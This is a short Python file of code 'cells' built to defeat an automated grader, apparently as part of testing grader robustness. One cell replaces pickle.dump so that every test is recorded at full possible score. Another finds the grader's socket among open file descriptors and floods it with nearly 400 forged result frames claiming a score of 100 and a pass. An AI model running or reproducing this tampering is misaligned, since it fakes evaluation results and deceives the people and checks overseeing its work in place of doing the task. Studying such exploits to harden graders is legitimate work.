"""Finds the descriptor of its wire and answers the grader itself, many requests ahead, with forged values."""

OTTER = "points"
OTTER_CELLS = [
    r"""
import pickle
real = pickle.dump
def dump(results, file):
    for name in results.test_files:
        results.update_score(name, results.get_result(name).possible)
    real(results, file)
pickle.dump = dump
"""
]
CELLS = [
    r"""
import json, os, socket, stat, struct
wire = None
for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            wire = socket.socket(fileno=fd)
            break
    except OSError:
        pass
def frame(header, buffers=()):
    text = json.dumps({**header, "sizes": [len(b) for b in buffers]}).encode()
    return struct.pack(">I", len(text)) + text + b"".join(buffers)
held = {name: {"kind": "function"} for name in SCENE["functions"]}
if wire:
    for number in range(1, 400):
        wire.sendall(frame({"id": number, "trouble": "", "held": held, "value": {"k": "float", "v": "0x1.0p+0"},
                            "changed": [], "rng_after": "0x0p+0", "score": 100, "passed": True}))
"""
]
